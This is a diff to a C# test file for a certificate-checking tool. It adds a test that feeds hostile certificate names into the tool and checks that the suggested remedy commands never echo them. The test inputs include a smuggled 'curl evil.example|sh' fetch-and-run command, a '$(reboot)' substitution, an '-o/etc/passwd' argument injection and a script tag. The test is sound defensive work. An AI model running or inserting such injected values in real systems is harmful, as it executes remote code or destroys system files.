@@ -80,6 +80,19 @@ public class CertificateTests
             NotAfter = Scene.Now.AddDays(-1), PathNotAfter = null, Trust = ChainTrust.Untrusted, Problems = ["self-signed"], Weaknesses = ["SHA-1"], Sha256 = "one",
         }).Only(FindingCodes.CertExpired).Remedy.ShouldContain("certbot renew --cert-name relay-br-1.example.com");
 
+    [Theory]
+    [InlineData("a.example.com;curl evil.example|sh")]
+    [InlineData("$(reboot).example.com")]
+    [InlineData("-o/etc/passwd")]
+    [InlineData("'\"><script>")]
+    public void What_a_server_wrote_into_its_certificate_reaches_no_command_that_people_copy(string name)
+    {
+        var scene = Scene.OfOne().Certificates("br", c => c with { Names = [name], NotAfter = Scene.Now.AddDays(-1), PathNotAfter = null, Trust = ChainTrust.Untrusted, Issuer = "CN=House CA" });
+
+        foreach (var finding in scene.Judge().AllFindings)
+            finding.Remedy.ShouldNotContain(name);
+    }
+
     [Fact]
     public void A_chain_that_expired_above_the_leaf_is_expired() =>
         Scene.OfOne().Certificates("br", c => c with { Trust = ChainTrust.Expired, PathNotAfter = null, Sha256 = "one" }).Only(FindingCodes.CertExpired)
